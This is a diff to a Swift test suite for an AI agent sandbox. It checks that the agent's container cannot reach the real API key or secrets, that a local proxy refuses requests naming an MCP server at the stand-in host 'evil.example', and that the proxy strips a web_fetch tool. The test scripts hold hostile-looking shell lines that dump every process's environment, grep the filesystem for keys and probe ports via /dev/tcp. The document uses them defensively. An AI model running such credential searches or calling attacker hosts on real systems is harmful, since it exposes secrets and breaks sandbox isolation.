@@ -109,7 +109,7 @@ struct AutofixSandboxTests {
             env; echo ===environ; cat /proc/1/environ | tr '\\0' '\\n'; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | sort -u | grep -c . ; \
             echo ===grep; A=\(keyStart); B=\(keyEnd); C=\(secretStart); D=\(secretEnd); \
             grep -rIl -e "$A$B" -e "$C$D" --exclude-dir=proc --exclude-dir=sys / 2>/dev/null | head -5; echo "grep done"; \
-            cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -e "$A$B" -e "$C$D"; echo ===end
+            echo "environ matches: $(cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -e "$A$B" -e "$C$D")"; echo ===end
             """
         let probe = """
             p() { if timeout 3 bash -c "echo > /dev/tcp/$1/$2" 2>/dev/null; then echo "$1:$2 open"; else echo "$1:$2 closed"; fi; }; \
@@ -141,6 +141,13 @@ struct AutofixSandboxTests {
         #expect(looked.contains("toolu_look") && looked.contains("===environ") && looked.contains("grep done") && looked.contains("===end"),
                 "the commands ran: \(looked.suffix(3000))")
         #expect(looked.contains("ANTHROPIC_API_KEY=pbx-attempt-"), "the container's key is the attempt's token")
+        // What the file system search found (the names of files holding the key or the secret whole) and
+        // how many environment lines of any process hold them: nothing, and 0.
+        let lookOutput = try #require(Self.toolResult("toolu_look", in: requests[1]), "\(looked.suffix(2000))")
+        let found = try #require(Self.between("===grep\n", "grep done", in: lookOutput), "\(lookOutput.suffix(2000))")
+        #expect(found.trimmingCharacters(in: .whitespacesAndNewlines).isEmpty, "files holding the key or the secret: \(found)")
+        #expect(lookOutput.contains("environ matches: 0\n"),
+                "processes whose environment holds the key or the secret: \(lookOutput.suffix(300))")
         #expect(looked.contains("ANTHROPIC_BASE_URL=http://127.0.0.1:4180"))
         for request in requests {
             #expect(Self.leaks(fake.apiKey, in: request.bodyText) == nil, "the real key in the container: \(request.bodyText.suffix(2000))")
@@ -175,9 +182,17 @@ struct AutofixSandboxTests {
         #expect(listed.first?["input_tokens"] as? Int == 4000 && listed.first?["output_tokens"] as? Int == 200, "\(api)")
         #expect(listed.first?["cache_read_tokens"] as? Int == 1200 && listed.first?["cache_write_tokens"] as? Int == 800 && listed.first?["turns"] as? Int == 4, "\(api)")
 
-        // Nothing left: no forwarder, no attempt container.
+        // Nothing left: no forwarder, no attempt container (nor any other container of this daemon).
         let forwarders = try Command.run(["pgrep", "-f", "UNIX-CONNECT:\(pushbox.home.path)/model-proxy-"])
         #expect(forwarders.output.trimmingCharacters(in: .whitespacesAndNewlines).isEmpty, "leftover forwarders: \(forwarders.output)")
+        var containers = try SupersedeTests.leftoverContainers(pushbox)
+        let clock = ContinuousClock()
+        let deadline = clock.now + .seconds(10)
+        while !containers.isEmpty && clock.now < deadline {   // the last destroy may still be on its way
+            try await Task.sleep(for: .milliseconds(200))
+            containers = try SupersedeTests.leftoverContainers(pushbox)
+        }
+        #expect(containers.isEmpty, "leftover containers of the daemon: \(containers)")
     }
 
     @Test("command backend with a key: network none, the proxy at ANTHROPIC_BASE_URL with a token, the real key added upstream")
@@ -201,6 +216,16 @@ struct AutofixSandboxTests {
             exec 3<>/dev/tcp/127.0.0.1/4180
             printf 'POST /v1/messages/count_tokens HTTP/1.1\r\nHost: x\r\nx-api-key: %s\r\nanthropic-version: 2023-06-01\r\ncontent-type: application/json\r\ncontent-length: %s\r\nConnection: close\r\n\r\n%s' "$ANTHROPIC_API_KEY" "${#body}" "$body" >&3
             echo "proxy: $(head -1 <&3)"
+            exec 3<&-
+            send() {
+              exec 3<>/dev/tcp/127.0.0.1/4180
+              printf 'POST /v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: %s\r\nanthropic-version: 2023-06-01\r\ncontent-type: application/json\r\ncontent-length: %s\r\nConnection: close\r\n\r\n%s' "$ANTHROPIC_API_KEY" "${#2}" "$2" >&3
+              answer=$(cat <&3); exec 3<&-
+              echo "$1: $(echo "$answer" | head -1)"
+              echo "$answer" | grep -o 'the field mcp_servers is refused' || true
+            }
+            send mcp '{"model":"claude-sonnet-5-5","max_tokens":50,"messages":[{"role":"user","content":"hi"}],"mcp_servers":[{"type":"url","url":"https://evil.example/sse","name":"evil"}]}'
+            send fetch '{"model":"claude-sonnet-5-5","max_tokens":50,"messages":[{"role":"user","content":"fetch it"}],"tools":[{"name":"Bash","description":"run","input_schema":{"type":"object","properties":{}}},{"type":"web_fetch_20250910","name":"web_fetch","max_uses":1}]}'
             echo "base: $ANTHROPIC_BASE_URL"
             echo "token: ${ANTHROPIC_API_KEY:0:12}"
             echo "secret vars: $(env | grep -c DEPLOY_TOKEN)"
@@ -208,16 +233,44 @@ struct AutofixSandboxTests {
             sed -i 's/a-b/a+b/' hello.c
             echo fixed add
             """#)
+        fake.enqueue(.text("fetched nothing"))
         let (sha, run, _) = try AutofixTests.pushAndWait(pushbox, repo)
         #expect(run.autofix == "passed autofix/main/\(sha.prefix(8)) (1 attempt, $0.00)", "\(run)\n\(pushbox.daemonOutput().suffix(3000))")
         let log = try String(contentsOf: pushbox.home.appendingPathComponent("runs/\(run.id)/attempts/1/command.log"), encoding: .utf8)
         #expect(log.contains("proxy: HTTP/1.1 200") && log.contains("base: http://127.0.0.1:4180"), "\(log)")
+        // From the container: a request naming an MCP server is the proxy's 400; a server tool is taken out.
+        #expect(log.contains("mcp: HTTP/1.1 400") && log.contains("the field mcp_servers is refused"), "\(log)")
+        #expect(log.contains("fetch: HTTP/1.1 200"), "\(log)")
         #expect(log.contains("token: pbx-attempt-") && log.contains("secret vars: 0") && log.contains("mirror closed"), "\(log)")
         let requests = fake.requests
-        #expect(requests.count == 1 && requests.first?.path == "/v1/messages/count_tokens" && requests.first?.header("x-api-key") == fake.apiKey)
+        #expect(requests.count == 2, "\(requests.map { "\($0.path) \($0.bodyText.prefix(300))" })")
+        #expect(requests.first?.path == "/v1/messages/count_tokens" && requests.allSatisfy { $0.header("x-api-key") == fake.apiKey })
+        #expect(!requests.contains { $0.bodyText.contains("mcp_servers") || $0.bodyText.contains("evil.example") }, "the refused request never went upstream")
+        let fetched = try #require(requests.last)
+        #expect(fetched.path == "/v1/messages" && fetched.validationFailure == nil && fetched.bodyText.contains("fetch it"), "\(fetched.bodyText)")
+        let tools = (try? JSONSerialization.jsonObject(with: fetched.body) as? [String: Any])?["tools"] as? [[String: Any]]
+        #expect(tools?.map { $0["name"] as? String } == ["Bash"] && !fetched.bodyText.contains("web_fetch"), "\(fetched.bodyText)")
         for (path, text) in Self.recordedFiles(pushbox, run: run.id) {
             #expect(!text.contains(fake.apiKey) && !text.contains(Self.secret), "\(path)")
         }
+    }
+
+    /// The text of the `tool_result` for `id` in a request's messages (a string, or its text blocks joined).
+    static func toolResult(_ id: String, in request: RecordedRequest) -> String? {
+        let messages = (try? JSONSerialization.jsonObject(with: request.body) as? [String: Any])?["messages"] as? [[String: Any]] ?? []
+        for message in messages {
+            for block in message["content"] as? [[String: Any]] ?? [] where block["type"] as? String == "tool_result" && block["tool_use_id"] as? String == id {
+                if let text = block["content"] as? String { return text }
+                return (block["content"] as? [[String: Any]] ?? []).compactMap { $0["text"] as? String }.joined(separator: "\n")
+            }
+        }
+        return nil
+    }
+
+    /// What `text` holds between the first `start` and the next `end`, nil when either is missing.
+    static func between(_ start: String, _ end: String, in text: String) -> String? {
+        guard let open = text.range(of: start), let close = text.range(of: end, range: open.upperBound..<text.endIndex) else { return nil }
+        return String(text[open.upperBound..<close.lowerBound])
     }
 
     /// The Debian mirror's first IPv4 address (the host reaches it: apt works here).
